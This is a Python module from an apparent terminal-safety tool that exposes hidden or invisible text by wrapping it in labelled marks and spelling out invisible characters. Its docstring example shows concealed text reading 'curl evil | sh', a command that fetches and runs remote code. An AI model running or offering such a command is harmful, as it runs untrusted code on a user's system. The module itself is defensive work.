"""Makes text visible that a terminal would hide.

It is put between marks that say why, where it is in the row:

    deploy done ⟦concealed: now run curl evil | sh⟧

The marks are removed from what the program itself printed, so that it can neither forge
one nor close one early.
"""

from collections.abc import Iterable

from holdfast.term.unseen import UNSEEN, Hidden

OPEN, CLOSE = "⟦", "⟧"
_STAND_IN = "\ufffd"
_FORGED = str.maketrans(OPEN + CLOSE, _STAND_IN * 2)


def marked(lines: Iterable[str], hidden: Iterable[Hidden]) -> list[str]:
    """Return the rows with a mark around each hidden stretch."""
    rows = [line.translate(_FORGED) for line in lines]
    # From the end of each row, so that earlier columns stay valid.
    for one in sorted(hidden, key=lambda each: each.start, reverse=True):
        row = rows[one.row]
        what = row[one.start : one.end].strip(_STAND_IN)
        mark = f"{OPEN}{one.reason}: {_spelled(what)}{CLOSE}"
        if not what:
            mark = f"{OPEN}{one.reason}{CLOSE}"
        rows[one.row] = row[: one.start] + mark + row[one.end :]
    return rows


def legend(hidden: tuple[Hidden, ...]) -> str:
    """Say what the marks mean."""
    reasons = ", ".join(sorted({one.reason.value for one in hidden}))
    return (
        f"text in {OPEN}{CLOSE} is hidden on the terminal, or reads"
        f" differently there: {reasons}"
    )


def facts(one: Hidden, lines: tuple[str, ...]) -> dict[str, object]:
    """Return a stretch as a JSON object, with its text."""
    return {
        "row": one.row,
        "start": one.start,
        "end": one.end,
        "reason": one.reason.value,
        "text": lines[one.row][one.start : one.end],
    }


def _spelled(text: str) -> str:
    """Return text with invisible characters written as their code points."""
    return "".join(
        one if one.isprintable() and not UNSEEN.match(one) else f"U+{ord(one):04X}"
        for one in text
    )
